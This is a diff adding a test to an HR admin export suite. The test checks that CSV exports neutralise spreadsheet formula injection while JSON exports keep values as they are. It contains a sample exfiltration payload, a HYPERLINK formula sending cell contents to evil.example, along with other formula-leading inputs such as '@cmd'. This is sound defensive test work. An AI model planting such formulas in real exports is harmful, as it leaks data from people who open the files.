@@ -89,4 +89,23 @@ describe('export (rule 8.3)', () => {
     expect(await (await service.api('/api/admin/export/employee-profiles?format=json')).json()).toEqual([]);
     expect((await service.api('/api/admin/export/hr-users?format=xlsx')).status).toBe(400);
   });
+
+  it('neutralises cells a spreadsheet would run as formulas in CSV (OWASP CSV injection), and leaves JSON as it is', async () => {
+    const hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")';
+    const formulas = { firstName: hyperlink, lastName: '+SUM(1,2)', email: 'formula@contoso.com' };
+    expect((await service.api('/api/admin/users', { method: 'POST', json: formulas })).status).toBe(201);
+    const profile = { email: 'formula.p@contoso.com', firstName: '@cmd', lastName: '-2+3', jobTitle: '=1+1', city: 'Ordinary - not a formula', customFields: { note: '=1+1' } };
+    expect((await service.api('/api/admin/employee-profiles', { method: 'POST', json: profile })).status).toBe(201);
+
+    const user = records(await (await service.api('/api/admin/export/hr-users')).text()).find((r) => r.email === 'formula@contoso.com')!;
+    expect(user).toMatchObject({ firstName: `'${hyperlink}`, lastName: "'+SUM(1,2)" });
+    const exported = records(await (await service.api('/api/admin/export/employee-profiles')).text()).find((r) => r.email === 'formula.p@contoso.com')!;
+    // Custom fields are one JSON cell starting with "{", which no spreadsheet runs.
+    expect(exported).toMatchObject({ firstName: "'@cmd", lastName: "'-2+3", jobTitle: "'=1+1", city: 'Ordinary - not a formula', customFields: '{"note":"=1+1"}' });
+
+    const json = (await (await service.api('/api/admin/export/hr-users?format=json')).json()) as Array<Record<string, unknown>>;
+    expect(json.find((r) => r.email === 'formula@contoso.com')).toMatchObject({ firstName: hyperlink, lastName: '+SUM(1,2)' });
+    const profilesJson = (await (await service.api('/api/admin/export/employee-profiles?format=json')).json()) as Array<Record<string, unknown>>;
+    expect(profilesJson.find((r) => r.email === 'formula.p@contoso.com')).toMatchObject({ firstName: '@cmd', lastName: '-2+3', jobTitle: '=1+1' });
+  });
 });
